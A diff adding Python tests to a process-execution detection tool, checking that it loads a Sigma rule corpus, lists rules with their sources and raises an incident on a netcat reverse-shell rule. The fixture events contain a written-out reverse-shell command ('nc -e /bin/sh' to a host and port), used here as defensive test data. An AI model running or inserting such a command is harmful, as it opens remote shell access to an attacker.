@@ -233,6 +233,68 @@ def test_rules_list():
     assert listed[0]["ruleId"] == "PH_Rule_TH_Linux_23" and listed[0]["window"] == 300
 
 
+SIGMA_CORPUS = os.path.join(ROOT, "..", "shared", "corpora", "sigma", "rules")
+
+
+def sigma_corpus():
+    if not os.path.isdir(SIGMA_CORPUS):
+        raise AssertionError(f"the Sigma corpus is missing: {SIGMA_CORPUS} (a clone of the project sits beside shared/)")
+    return SIGMA_CORPUS
+
+
+def test_rules_check_over_the_sigma_corpus_loads_or_refuses_each_with_its_place():
+    corpus = sigma_corpus()
+    files = sorted(f for f in os.listdir(corpus) if f.endswith(".yml"))
+    assert len(files) == 144, len(files)
+    proc = run("rules", "check", corpus)
+    err = proc.stderr.decode()
+    summary = re.search(r"(\d+) rule\(s\) loaded, (\d+) error\(s\)", err + proc.stdout.decode())
+    assert summary, err[-2000:]
+    loaded, refused = int(summary.group(1)), int(summary.group(2))
+    assert loaded >= 130 and loaded + refused == 144, (loaded, refused, err[-3000:])
+    assert proc.returncode == (2 if refused else 0)
+    for line in err.splitlines():
+        if line.startswith("execwatch:"):
+            continue
+        # every refusal names the file, line and column and the construct
+        assert re.match(r"^/.+\.yml:\d+:\d+: \S", line), line
+
+
+def test_rules_list_shows_sigma_rules_with_author_and_source():
+    d = tempfile.mkdtemp(prefix="execwatch-sigma-")
+    try:
+        shutil.copy(os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml"), d)
+        with open(os.path.join(d, ".sigma-source"), "w") as f:
+            f.write("https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/\n")
+        with open(os.path.join(d, "other.yml"), "w") as f:
+            f.write("title: t\nid: x1\nlogsource: {product: windows, category: process_creation}\n"
+                    "detection: {sel: {Image: x}, condition: sel}\n")
+        proc = run("rules", "list", "--json", "--rules", d, "--rules", RULES, check_status=0)
+        listed = {r["ruleId"]: r for r in json_lines(proc.stdout)}
+        sigma = listed["7f734ed0-4f47-46c0-837f-6ee62505abd9"]
+        assert sigma["source"] == ("https://github.com/SigmaHQ/sigma/blob/master/rules/linux/process_creation/"
+                                   "proc_creation_lnx_netcat_reverse_shell.yml"), sigma
+        assert sigma["author"] and sigma["severity"] == 7 and sigma["window"] == 300, sigma
+        assert "PH_Rule_TH_Linux_23" in listed and "source" not in listed["PH_Rule_TH_Linux_23"]
+        assert "other.yml:3:12: note: skipped: logsource is category process_creation, product windows" in proc.stderr.decode()
+        table = run("rules", "list", "--rules", d, check_status=0).stdout.decode()
+        assert "github.com/SigmaHQ" in table.splitlines()[1], table
+    finally:
+        shutil.rmtree(d, True)
+
+
+def test_rules_test_raises_a_sigma_rule_on_a_netcat_reverse_shell():
+    rule = os.path.join(sigma_corpus(), "proc_creation_lnx_netcat_reverse_shell.yml")
+    events = "\n".join(json.dumps({
+        "eventType": "LINUX_PROCESS_EXEC", "eventTime": f"2026-11-28T10:00:0{k}Z", "hostName": "h", "user": "alice",
+        "procName": "nc.openbsd", "swParam": "-e /bin/sh 10.0.0.1 4444", "invokedPath": "/usr/bin/nc",
+        "exePath": "/usr/bin/nc.openbsd", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}) for k in range(2)) + "\n"
+    out = run("rules", "test", "--events", "-", "--rules", rule, stdin=events.encode(), check_status=0)
+    incidents = json_lines(out.stdout)
+    assert len(incidents) == 1 and incidents[0]["ruleId"] == "7f734ed0-4f47-46c0-837f-6ee62505abd9", incidents
+    assert incidents[0]["count"] == 2 and incidents[0]["severity"] == 7, incidents
+
+
 def test_rules_test_with_json_events():
     events = [
         {"eventTime": "2026-11-28T10:00:00.000Z", "hostName": "web-1", "user": "alice", "procName": "nc", "swParam": "-l 4444"},
